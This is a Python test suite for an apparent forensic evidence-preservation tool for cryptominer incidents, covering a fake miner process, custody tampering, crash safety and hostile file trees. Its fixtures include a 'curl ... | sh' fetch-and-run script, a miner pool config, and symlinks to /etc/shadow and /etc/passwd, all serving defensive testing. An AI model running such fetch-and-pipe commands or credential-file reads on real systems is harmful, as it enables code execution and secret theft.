"""preserve, evidence verify and status end to end: a real stand-in miner whose binary is deleted, a
tampered case, kill -9 in the middle of a large copy, two preserves at once, and hostile file trees."""
import hashlib
import json
import os
import random
import resource
import shutil
import signal
import sqlite3
import subprocess
import tempfile
import time
import unittest

from harness import BIN, STANDIN_MINER, Miner, main, temp_case, unmine, validate_schema


def sha256_file(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def items_of(doc, kind):
    return [i for i in doc["items"] if i["kind"] == kind]


def read(path):
    with open(path, "rb") as f:
        return f.read()


def db(case):
    return sqlite3.connect(os.path.join(case, "case.db"))


class PreserveMiner(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.case = temp_case()
        cls.workdir = tempfile.mkdtemp(prefix="unmine-pv-miner-")
        with open(os.path.join(cls.workdir, "config.json"), "w") as f:
            json.dump({"pools": [{"url": "stratum+tcp://127.0.0.1:9", "user": "wallet-for-test"}]}, f)
        with open(os.path.join(cls.workdir, "update.sh"), "w") as f:
            f.write("#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n")
        cls.miner = Miner(["-c", "config.json", "--no-connect"], name="kdevtmpfsi", workdir=cls.workdir,
                          env={"MINER_TOKEN": "secret-for-test"}, delete_binary=True)
        cls.result = unmine("--json", "preserve", "--pid", cls.miner.pid, case=cls.case)

    @classmethod
    def tearDownClass(cls):
        cls.miner.stop()
        shutil.rmtree(cls.workdir, ignore_errors=True)
        shutil.rmtree(cls.case, ignore_errors=True)

    def test_deleted_binary_is_stored_with_the_original_hash(self):
        r = self.result
        self.assertEqual(r.rc, 0, r)
        validate_schema(r.json, "preserve")
        exe = items_of(r.json, "exe")
        self.assertEqual(len(exe), 1, r)
        self.assertEqual(exe[0]["status"], "stored")
        self.assertEqual(exe[0]["sha256"], sha256_file(STANDIN_MINER))
        self.assertIn("deleted", exe[0]["note"])
        self.assertEqual(sha256_file(os.path.join(self.case, exe[0]["stored_path"])), exe[0]["sha256"])
        self.assertTrue(r.json["miners"][0]["exe_deleted"])

    def test_volatile_state_and_config_are_in_the_case(self):
        doc = self.result.json
        def stored(item):
            return read(os.path.join(self.case, item["stored_path"]))
        self.assertIn(b"config.json", stored(items_of(doc, "cmdline")[0]))
        self.assertIn(b"MINER_TOKEN=secret-for-test", stored(items_of(doc, "environ")[0]))
        configs = [i for i in items_of(doc, "config") if i["source_path"].endswith("/config.json")]
        self.assertEqual(len(configs), 1, doc)
        self.assertIn(b"wallet-for-test", stored(configs[0]))
        scripts = [i for i in items_of(doc, "script") if i["source_path"].endswith("/update.sh")]
        self.assertEqual(len(scripts), 1, doc)
        for kind in ("maps", "status", "fds", "cwd_listing"):
            self.assertEqual(len(items_of(doc, kind)), 1, kind)

    def test_archive_is_the_manifest_of_every_stored_copy(self):
        doc = self.result.json
        arc = os.path.join(self.case, doc["archive"]["stored_path"])
        self.assertEqual(sha256_file(arc), doc["archive"]["sha256"])
        if not shutil.which("tar", path="/usr/bin:/bin") or not shutil.which("zstd", path="/usr/bin:/bin"):
            self.skipTest("tar or zstd missing")
        names = subprocess.run(["/usr/bin/tar", "--zstd", "-tf", arc], capture_output=True, text=True, check=True).stdout.split()
        self.assertEqual(names, ["manifest.json"])  # the bytes are written once, to the stored copies
        manifest = json.loads(subprocess.run(["/usr/bin/tar", "--zstd", "-xOf", arc, "manifest.json"],
                                             capture_output=True, check=True).stdout)
        self.assertEqual(len(manifest["items"]), len(doc["items"]))
        exe = items_of(doc, "exe")[0]
        listed = [i for i in manifest["items"] if i["id"] == exe["id"]][0]
        self.assertEqual((listed["sha256"], listed["md5"], listed["stored_path"]), (exe["sha256"], exe["md5"], exe["stored_path"]))
        with open(os.path.join(self.case, listed["stored_path"]), "rb") as f:
            data = f.read()
        self.assertEqual((hashlib.sha256(data).hexdigest(), hashlib.md5(data).hexdigest()), (exe["sha256"], exe["md5"]))

    def test_case_knows_the_hash_and_the_miner(self):
        sha = items_of(self.result.json, "exe")[0]["sha256"]
        with db(self.case) as c:
            self.assertTrue(c.execute("SELECT 1 FROM indicators WHERE type='sha256' AND value=?", (sha,)).fetchone())
            self.assertTrue(c.execute("SELECT 1 FROM miners WHERE pid=? AND exe_sha256=?", (self.miner.pid, sha)).fetchone())
            self.assertEqual(c.execute("SELECT COUNT(*) FROM evidence WHERE status='pending'").fetchone()[0], 0)

    def test_status_shows_preserve_done(self):
        r = unmine("--json", "status", case=self.case)
        self.assertEqual(r.rc, 0, r)
        validate_schema(r.json, "status")
        step = {s["id"]: s for s in r.json["steps"]}["preserve"]
        self.assertEqual(step["state"], "done")
        self.assertIn("items stored", step["outcome"])
        self.assertEqual(r.json["current_time_box"], "15m")
        human = unmine("status", case=self.case)
        self.assertIn("Preserve evidence before killing", human.stdout)


class Tamper(unittest.TestCase):
    """evidence verify catches one flipped byte anywhere and an edited custody record."""

    def setUp(self):
        self.case = temp_case()
        self.src = tempfile.mkdtemp(prefix="unmine-pv-src-")
        for i in range(3):
            with open(os.path.join(self.src, f"f{i}"), "wb") as f:
                f.write(os.urandom(100000 + i))
        r = unmine("--json", "preserve", "--path", self.src, case=self.case)
        self.assertEqual(r.rc, 0, r)
        self.doc = r.json

    def tearDown(self):
        shutil.rmtree(self.src, ignore_errors=True)
        shutil.rmtree(self.case, ignore_errors=True)

    def verify(self):
        r = unmine("--json", "evidence", "verify", case=self.case)
        validate_schema(r.json, "evidence")
        return r

    def flip(self, path, offset):
        os.chmod(path, 0o600)
        with open(path, "r+b") as f:
            f.seek(offset)
            b = f.read(1)
            f.seek(offset)
            f.write(bytes([b[0] ^ 1]))

    def test_intact_case_passes(self):
        r = self.verify()
        self.assertEqual(r.rc, 0, r)
        self.assertTrue(r.json["intact"])
        self.assertEqual(r.json["checked"]["items"], 3)
        self.assertEqual(r.json["checked"]["archives"], 1)

    def test_flipped_byte_in_an_item_is_named(self):
        item = self.doc["items"][1]
        self.flip(os.path.join(self.case, item["stored_path"]), random.randrange(item["size"]))
        r = self.verify()
        self.assertEqual(r.rc, 1, r)
        self.assertIn({"target": "evidence", "id": item["id"]}, [{"target": p["target"], "id": p["id"]} for p in r.json["problems"]])
        human = unmine("evidence", "verify", case=self.case)
        self.assertEqual(human.rc, 1)
        self.assertIn(item["stored_path"], human.stdout)

    def test_flipped_byte_in_the_archive_is_named(self):
        arc = self.doc["archive"]
        self.flip(os.path.join(self.case, arc["stored_path"]), random.randrange(arc["size"]))
        r = self.verify()
        self.assertEqual(r.rc, 1, r)
        self.assertEqual([p["target"] for p in r.json["problems"]], ["archive"])

    def test_edited_custody_record_is_named(self):
        with db(self.case) as c:
            c.execute("DROP TRIGGER custody_no_update")
            seq = c.execute("SELECT seq FROM custody WHERE event='evidence.stored' ORDER BY seq LIMIT 1").fetchone()[0]
            c.execute("UPDATE custody SET details=replace(details, '\"size\":', '\"size\":1') WHERE seq=?", (seq,))
            self.assertEqual(c.total_changes, 1)
        r = self.verify()
        self.assertEqual(r.rc, 1, r)
        self.assertIn(("custody", seq), [(p["target"], p["id"]) for p in r.json["problems"]])

    def test_database_hash_edited_to_match_a_replaced_file_is_caught(self):
        item = self.doc["items"][0]
        path = os.path.join(self.case, item["stored_path"])
        os.chmod(path, 0o600)
        with open(path, "wb") as f:
            f.write(b"replaced")
        new = hashlib.sha256(b"replaced").hexdigest()
        with db(self.case) as c:
            c.execute("UPDATE evidence SET sha256=? WHERE id=?", (new, item["id"]))
        r = self.verify()
        self.assertEqual(r.rc, 1, r)
        self.assertTrue(any(p["id"] == item["id"] and "custody" in p["problem"] for p in r.json["problems"]), r)

    def test_deleted_custody_record_is_a_gap(self):
        with db(self.case) as c:
            c.execute("DROP TRIGGER custody_no_delete")
            c.execute("DELETE FROM custody WHERE seq=2")
        r = self.verify()
        self.assertEqual(r.rc, 1, r)
        self.assertTrue(any(p["target"] == "custody" and "gap" in p["problem"] for p in r.json["problems"]), r)


class CrashAndConcurrency(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.src = tempfile.mkdtemp(prefix="unmine-pv-big-")
        block = os.urandom(1 << 20)
        with open(os.path.join(cls.src, "big.bin"), "wb") as f:
            for i in range(200):
                f.write(block[i:] + block[:i])  # 200 MiB that does not compress to nothing

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.src, ignore_errors=True)

    def check_consistent(self, case):
        with db(case) as c:
            self.assertEqual(c.execute("PRAGMA integrity_check").fetchone()[0], "ok")
            for stored_path, sha in c.execute("SELECT stored_path, sha256 FROM evidence WHERE status='stored'"):
                self.assertEqual(sha256_file(os.path.join(case, stored_path)), sha)

    def test_kill_9_at_random_points_leaves_a_consistent_case(self):
        case = temp_case()
        try:
            started = time.time()
            r = unmine("preserve", "--path", self.src, case=case)
            full = time.time() - started
            self.assertEqual(r.rc, 0, r)
            rng = random.Random(os.getpid())
            # Two dozen kills; on a loaded machine stop after a minute (at least eight).
            deadline = time.time() + 60
            for n in range(24):
                if n >= 8 and time.time() > deadline:
                    break
                p = subprocess.Popen([BIN, "--case", case, "preserve", "--path", self.src],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
                time.sleep(rng.uniform(0, full))
                p.send_signal(signal.SIGKILL)
                p.wait()
                self.check_consistent(case)
            r = unmine("--json", "preserve", "--path", self.src, case=case)
            self.assertEqual(r.rc, 0, r)
            self.assertEqual(r.json["summary"]["stored"], 1)
            leftovers = [n for sub in ("tmp", "archives") for n in os.listdir(os.path.join(case, "evidence", sub))
                         if n.endswith(".part")]
            self.assertEqual(leftovers, [])  # partial files of the killed runs are gone
            v = unmine("--json", "evidence", "verify", case=case)
            self.assertEqual(v.rc, 0, v)
            self.assertGreaterEqual(v.json["checked"]["items"], 2)
        finally:
            shutil.rmtree(case, ignore_errors=True)

    def test_commands_racing_to_create_one_case_all_succeed(self):
        # A fresh case file is switched to WAL under an exclusive lock that SQLite does not wait for by
        # itself; 1 in 6 such races failed with "database is locked" before the open retried it.
        small = tempfile.NamedTemporaryFile(prefix="unmine-pv-small-")
        small.write(b"#!/bin/sh\n")
        small.flush()
        self.addCleanup(small.close)
        for _ in range(15):
            case = tempfile.mkdtemp(prefix="unmine-pv-race-")
            os.rmdir(case)
            try:
                procs = [subprocess.Popen([BIN, "--json", "--case", case, "preserve", "--path", small.name],
                                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
                         for _ in range(3)]
                for p in procs:
                    _, err = p.communicate(timeout=120)
                    self.assertEqual(p.returncode, 0, err)
            finally:
                shutil.rmtree(case, ignore_errors=True)

    def test_two_preserves_at_once_both_complete(self):
        case = temp_case()
        other = tempfile.mkdtemp(prefix="unmine-pv-other-")
        try:
            for i in range(20):
                with open(os.path.join(other, f"s{i}.sh"), "w") as f:
                    f.write(f"#!/bin/sh\necho {i}\n")
            a = subprocess.Popen([BIN, "--json", "--case", case, "preserve", "--path", self.src], stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
            b = subprocess.Popen([BIN, "--json", "--case", case, "preserve", "--path", other], stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
            out_a, err_a = a.communicate(timeout=120)
            out_b, err_b = b.communicate(timeout=120)
            self.assertEqual(a.returncode, 0, err_a)
            self.assertEqual(b.returncode, 0, err_b)
            ids = [i["id"] for i in json.loads(out_a)["items"] + json.loads(out_b)["items"]]
            self.assertEqual(len(ids), 21)
            with db(case) as c:
                self.assertEqual(c.execute("SELECT COUNT(*) FROM evidence WHERE status='stored'").fetchone()[0], 21)
                self.assertEqual(c.execute("SELECT COUNT(*) FROM archives WHERE status='stored'").fetchone()[0], 2)
                self.assertEqual(c.execute("SELECT COUNT(*) FROM steps WHERE status='done'").fetchone()[0], 2)
            v = unmine("--json", "evidence", "verify", case=case)
            self.assertEqual(v.rc, 0, v)
        finally:
            shutil.rmtree(case, ignore_errors=True)
            shutil.rmtree(other, ignore_errors=True)


class HostileTree(unittest.TestCase):
    def setUp(self):
        self.root = tempfile.mkdtemp(prefix="unmine-pv-root-")
        self.case = temp_case()
        d = os.path.join(self.root, "tmp", ".x")
        os.makedirs(d)
        os.symlink("/etc/shadow", os.path.join(d, "shadow-link"))
        os.symlink("../../../../../../etc/passwd", os.path.join(d, "climb"))
        os.mkfifo(os.path.join(d, "pipe"))
        with open(os.path.join(d, "evil\nname.sh"), "w") as f:
            f.write("#!/bin/sh\n")
        with open(os.path.join(d, "sparse"), "wb") as f:
            f.truncate(2 << 30)

    def tearDown(self):
        shutil.rmtree(self.root, ignore_errors=True)
        shutil.rmtree(self.case, ignore_errors=True)

    def test_links_fifo_newlines_and_a_sparse_2_gib_file(self):
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        p = subprocess.run([BIN, "--root", self.root, "--case", self.case, "--json", "preserve", "--path", "/tmp/.x"],
                           capture_output=True, text=True, timeout=240, stdin=subprocess.DEVNULL)
        peak_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        self.assertEqual(p.returncode, 0, p.stderr)
        doc = json.loads(p.stdout)
        validate_schema(doc, "preserve")
        by_name = {i["source_path"].rsplit("/", 1)[1]: i for i in doc["items"]}
        for link, target in (("shadow-link", "/etc/shadow"), ("climb", "../../../../../../etc/passwd")):
            item = by_name[link]
            self.assertEqual(item["kind"], "symlink")
            self.assertIn("not followed", item["note"])
            self.assertEqual(read(os.path.join(self.case, item["stored_path"])), target.encode())
        self.assertEqual(by_name["pipe"]["status"], "skipped")
        self.assertIn("FIFO", by_name["pipe"]["note"])
        self.assertIn("evil\\nname.sh", by_name)
        sparse = by_name["sparse"]
        self.assertEqual(sparse["size"], 2 << 30)
        h = hashlib.sha256()
        zeros = bytes(1 << 24)
        for _ in range(128):
            h.update(zeros)
        self.assertEqual(sparse["sha256"], h.hexdigest())
        if peak_kib > before:  # this run set the children's peak
            self.assertLess(peak_kib, 64 * 1024, "peak RSS of preserve over 64 MiB")
        # The stored copy keeps the holes: it takes almost no disk.
        st = os.stat(os.path.join(self.case, sparse["stored_path"]))
        self.assertLess(st.st_blocks * 512, 1 << 20)

    def test_relative_path_is_a_usage_error(self):
        r = unmine("--root", self.root, "--json", "preserve", "--path", "tmp/.x", case=self.case)
        self.assertEqual(r.rc, 2, r)


class TimeBoxes(unittest.TestCase):
    def test_late_boxes_are_named(self):
        case = temp_case()
        try:
            r = unmine("--json", "status", case=case)
            self.assertEqual(r.rc, 1, r)  # no case yet: status does not create one
            self.assertIn("no case", r.json["error"]["message"])
            self.assertEqual(unmine("preserve", "--path", os.path.abspath(__file__), case=case).rc, 0)
            with db(case) as c:
                c.execute("UPDATE cases SET created_at='2020-01-01T00:00:00.000000Z'")
            r = unmine("--json", "status", case=case)
            validate_schema(r.json, "status")
            self.assertEqual([b["state"] for b in r.json["time_boxes"]], ["late"] * 4)
            self.assertIsNone(r.json["current_time_box"])
            self.assertTrue({s["id"]: s for s in r.json["steps"]}["validate"]["late"])
            self.assertEqual({s["id"]: s for s in r.json["steps"]}["close_vector"]["state"], "manual")
        finally:
            shutil.rmtree(case, ignore_errors=True)


if __name__ == "__main__":
    main()
